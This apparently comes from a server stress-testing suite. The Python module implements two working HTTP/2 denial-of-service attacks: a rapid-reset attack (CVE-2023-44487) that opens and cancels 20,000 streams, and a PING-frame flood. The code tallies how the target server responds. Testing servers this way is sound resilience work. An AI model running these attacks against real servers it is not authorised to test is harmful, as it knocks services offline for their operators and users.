"""Attacks on HTTP/2 itself: streams opened and reset at once (rapid
reset, CVE-2023-44487) and a flood of PING frames."""

from __future__ import annotations

import asyncio
import struct

from crab_bench import wire as w
from crab_bench.attacks.base import Tally, Target, left
from crab_bench.attacks.raw import Watched, open_watched
from crab_bench.h2raw import PING, frame

RESETS = 20_000
RESETS_PER_TURN = 100  # between turns of the loop, the server's frames are read
PINGS_PER_WRITE = 1_000
WRITE_BUFFER = 1 << 20  # bytes queued in the socket before the flood waits


async def _open(target: Target, tally: Tally) -> Watched | None:
    try:
        return await open_watched(target.host, target.port)
    except OSError as error:
        tally.count(f"connect failed ({type(error).__name__})")
        await asyncio.sleep(0.1)
        return None


async def rapid_reset(target: Target, until: float, tally: Tally) -> None:
    """20,000 streams (SignIn calls), each reset (CANCEL) right after its
    HEADERS, on one connection (a new one if the server closes it)."""
    done = 0
    conn: Watched | None = None
    try:
        while done < RESETS and left(until) > 0:
            if conn is None or conn.closed:
                if conn is not None:
                    tally.count(conn.fate())
                conn = await _open(target, tally)
                continue
            for _ in range(RESETS_PER_TURN):
                stream = conn.request(w.SIGN_IN, {}, lambda _: None, lambda _: None)
                stream.cancel()
                done += 1
            await asyncio.sleep(0)
        tally.figure("streams opened and reset", done)
        await asyncio.sleep(left(until))  # does the server close it afterwards?
        if conn is not None:
            tally.count(conn.fate())
    finally:
        if conn is not None:
            conn.close()


async def ping_flood(target: Target, until: float, tally: Tally) -> None:
    """PING frames as fast as the socket takes them, for the whole phase."""
    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(PINGS_PER_WRITE))
    sent = 0
    acked = 0
    conn: Watched | None = None
    try:
        while left(until) > 0:
            if conn is None or conn.closed:
                if conn is not None:
                    tally.count(conn.fate())
                    acked += conn.pings_acked
                conn = await _open(target, tally)
                continue
            if conn.transport.get_write_buffer_size() > WRITE_BUFFER:
                await asyncio.sleep(0.001)
                continue
            conn.write(pings)
            sent += PINGS_PER_WRITE
            await asyncio.sleep(0)
        if conn is not None:
            tally.count(conn.fate())
            acked += conn.pings_acked
        tally.figure("PINGs sent", sent)
        tally.figure("PING acks received", acked)
    finally:
        if conn is not None:
            conn.close()
